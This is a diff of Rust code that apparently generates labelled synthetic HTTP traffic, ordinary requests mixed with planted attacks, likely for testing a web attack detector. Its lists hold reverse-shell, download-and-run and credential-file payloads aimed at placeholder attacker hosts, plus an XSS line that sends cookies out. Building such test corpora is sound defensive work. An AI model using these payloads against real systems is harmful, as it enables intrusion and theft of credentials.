@@ -29,26 +29,68 @@ pub struct Generated {
 const WORDS: &[&str] = &[
     "users", "admin", "id", "name", "passwd", "login", "data", "items", "account", "x",
 ];
-const TABLES: &[&str] = &["users", "usuarios", "accounts", "information_schema.tables", "mysql.user"];
+const TABLES: &[&str] = &[
+    "users",
+    "usuarios",
+    "accounts",
+    "information_schema.tables",
+    "mysql.user",
+];
 const FILES: &[&str] = &[
-    "etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
-    "etc/hosts", "var/log/apache2/access.log", "WEB-INF/web.xml",
+    "etc/passwd",
+    "etc/shadow",
+    "windows/win.ini",
+    "boot.ini",
+    "proc/self/environ",
+    "etc/hosts",
+    "var/log/apache2/access.log",
+    "WEB-INF/web.xml",
 ];
 const COMMANDS: &[&str] = &[
-    "id", "whoami", "cat /etc/passwd", "uname -a", "ls -la", "wget http://203.0.113.9/x.sh",
-    "curl -s evil.example/s|sh", "nc -e /bin/sh 203.0.113.9 4444", "ping -c 3 127.0.0.1",
-    "sleep 5", "net user", "powershell -enc SQBFAFgA",
+    "id",
+    "whoami",
+    "cat /etc/passwd",
+    "uname -a",
+    "ls -la",
+    "wget http://203.0.113.9/x.sh",
+    "curl -s evil.example/s|sh",
+    "nc -e /bin/sh 203.0.113.9 4444",
+    "ping -c 3 127.0.0.1",
+    "sleep 5",
+    "net user",
+    "powershell -enc SQBFAFgA",
 ];
 const PROBES: &[&str] = &[
-    "/.git/config", "/.env", "/wp-login.php", "/wp-admin/install.php", "/phpmyadmin/index.php",
-    "/admin/config.php", "/server-status", "/.aws/credentials", "/backup.sql", "/config.php.bak",
-    "/cgi-bin/test-cgi", "/actuator/env", "/.DS_Store", "/etc/passwd", "/shell.php",
-    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/HNAP1/", "/solr/admin/info/system",
+    "/.git/config",
+    "/.env",
+    "/wp-login.php",
+    "/wp-admin/install.php",
+    "/phpmyadmin/index.php",
+    "/admin/config.php",
+    "/server-status",
+    "/.aws/credentials",
+    "/backup.sql",
+    "/config.php.bak",
+    "/cgi-bin/test-cgi",
+    "/actuator/env",
+    "/.DS_Store",
+    "/etc/passwd",
+    "/shell.php",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/HNAP1/",
+    "/solr/admin/info/system",
 ];
 const SCANNER_AGENTS: &[&str] = &[
-    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6)",
-    "masscan/1.3", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
-    "gobuster/3.6", "WPScan v3.8.22", "ZmEu", "Wfuzz/3.1.0", "dirbuster",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Nikto/2.5.0",
+    "Mozilla/5.00 (Nikto/2.1.6)",
+    "masscan/1.3",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "gobuster/3.6",
+    "WPScan v3.8.22",
+    "ZmEu",
+    "Wfuzz/3.1.0",
+    "dirbuster",
 ];
 
 fn pick<'a>(rng: &mut Rng, items: &[&'a str]) -> &'a str {
@@ -81,7 +123,9 @@ pub fn payload(rng: &mut Rng, family: Category) -> String {
         },
         Category::Xss => match rng.below(10) {
             0 => format!("<script>alert({n})</script>"),
-            1 => format!("\"><script>document.location='http://203.0.113.{n}/?c='+document.cookie</script>"),
+            1 => format!(
+                "\"><script>document.location='http://203.0.113.{n}/?c='+document.cookie</script>"
+            ),
             2 => format!("<img src=x onerror=alert({n})>"),
             3 => format!("<svg/onload=confirm({n})>"),
             4 => "javascript:alert(document.domain)".to_owned(),
@@ -197,11 +241,11 @@ fn plant(carrier: &HttpRequest, value: &str, rng: &mut Rng) -> HttpRequest {
             return r;
         }
     }
-    if let Some((path, qs)) = carrier.uri.split_once('?') {
-        if let Some(q) = replace(qs, rng) {
-            r.uri = format!("{path}?{q}");
-            return r;
-        }
+    if let Some((path, qs)) = carrier.uri.split_once('?')
+        && let Some(q) = replace(qs, rng)
+    {
+        r.uri = format!("{path}?{q}");
+        return r;
     }
     let name = pick(rng, WORDS);
     let sep = if r.uri.contains('?') { '&' } else { '?' };
@@ -254,7 +298,11 @@ pub fn attack(carrier: &HttpRequest, family: Category, rng: &mut Rng) -> HttpReq
         _ if rng.below(10) == 0 => {
             // Some attacks ride in the User-Agent or Referer instead of a parameter.
             let mut r = carrier.clone();
-            let h = if rng.below(2) == 0 { "User-Agent" } else { "Referer" };
+            let h = if rng.below(2) == 0 {
+                "User-Agent"
+            } else {
+                "Referer"
+            };
             set_header(&mut r, h, &p);
             r
         }
@@ -266,18 +314,63 @@ pub fn attack(carrier: &HttpRequest, family: Category, rng: &mut Rng) -> HttpReq
 }
 
 const TEXTS: &[&str] = &[
-    "Grüße aus München", "東京 ラーメン おすすめ", "что такое квантовая физика",
-    "best running shoes 2024", "C'est la vie, n'est-ce pas ?", "مرحبا بالعالم",
-    "how to fix \"permission denied\" error", "O'Brien & Sons Ltd.", "50% off - today only!",
-    "naïve café résumé", "SELECT your plan: basic or pro", "Tom & Jerry (1940) <classic>",
-    "where is my order #4521?", "한국어 텍스트 예시", "email me at jane.doe@example.org",
+    "Grüße aus München",
+    "東京 ラーメン おすすめ",
+    "что такое квантовая физика",
+    "best running shoes 2024",
+    "C'est la vie, n'est-ce pas ?",
+    "مرحبا بالعالم",
+    "how to fix \"permission denied\" error",
+    "O'Brien & Sons Ltd.",
+    "50% off - today only!",
+    "naïve café résumé",
+    "SELECT your plan: basic or pro",
+    "Tom & Jerry (1940) <classic>",
+    "where is my order #4521?",
+    "한국어 텍스트 예시",
+    "email me at jane.doe@example.org",
 ];
 
 const SEGMENTS: &[&str] = &[
-    "blog", "images", "static", "assets", "css", "js", "docs", "about", "products", "news",
-    "2015", "2023", "en", "de", "articles", "files", "downloads", "user", "help", "category",
-    "presentations", "media", "img", "fonts", "wiki", "shop", "cart", "search", "archive",
-    "projects", "team", "contact", "v1", "v2", "feed", "tags", "page", "posts", "events",
+    "blog",
+    "images",
+    "static",
+    "assets",
+    "css",
+    "js",
+    "docs",
+    "about",
+    "products",
+    "news",
+    "2015",
+    "2023",
+    "en",
+    "de",
+    "articles",
+    "files",
+    "downloads",
+    "user",
+    "help",
+    "category",
+    "presentations",
+    "media",
+    "img",
+    "fonts",
+    "wiki",
+    "shop",
+    "cart",
+    "search",
+    "archive",
+    "projects",
+    "team",
+    "contact",
+    "v1",
+    "v2",
+    "feed",
+    "tags",
+    "page",
+    "posts",
+    "events",
 ];
 const EXTENSIONS: &[&str] = &[
     "", "", "", ".html", ".png", ".jpg", ".css", ".js", ".gif", ".svg", ".xml", ".pdf", ".ico",
@@ -290,7 +383,10 @@ const BROWSERS: &[&str] = &[
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
-    "okhttp/4.{v}.0", "python-requests/2.{v}.0", "curl/7.{v}.1", "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
+    "okhttp/4.{v}.0",
+    "python-requests/2.{v}.0",
+    "curl/7.{v}.1",
+    "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
 ];
 
 /// A random site path (`/blog/2015/news-item.html`), so no site's paths are "normal".
@@ -411,7 +507,12 @@ pub fn ordinary(rng: &mut Rng) -> HttpRequest {
 
 /// `attacks` attacks (families in turn) planted in `carriers`, and `normal` ordinary
 /// requests; deterministic for `seed`. Without carriers a bare GET carries the attack.
-pub fn corpus(carriers: &[HttpRequest], attacks: usize, normal: usize, seed: u64) -> Vec<Generated> {
+pub fn corpus(
+    carriers: &[HttpRequest],
+    attacks: usize,
+    normal: usize,
+    seed: u64,
+) -> Vec<Generated> {
     let mut rng = Rng::new(seed);
     let bare = HttpRequest {
         method: "GET".into(),
@@ -464,7 +565,10 @@ mod tests {
             method: "POST".into(),
             uri: "http://localhost:8080/shop/buy.jsp".into(),
             headers: vec![
-                ("Content-Type".into(), "application/x-www-form-urlencoded".into()),
+                (
+                    "Content-Type".into(),
+                    "application/x-www-form-urlencoded".into(),
+                ),
                 ("Content-Length".into(), "7".into()),
             ],
             body: b"id=2&q=3".to_vec(),
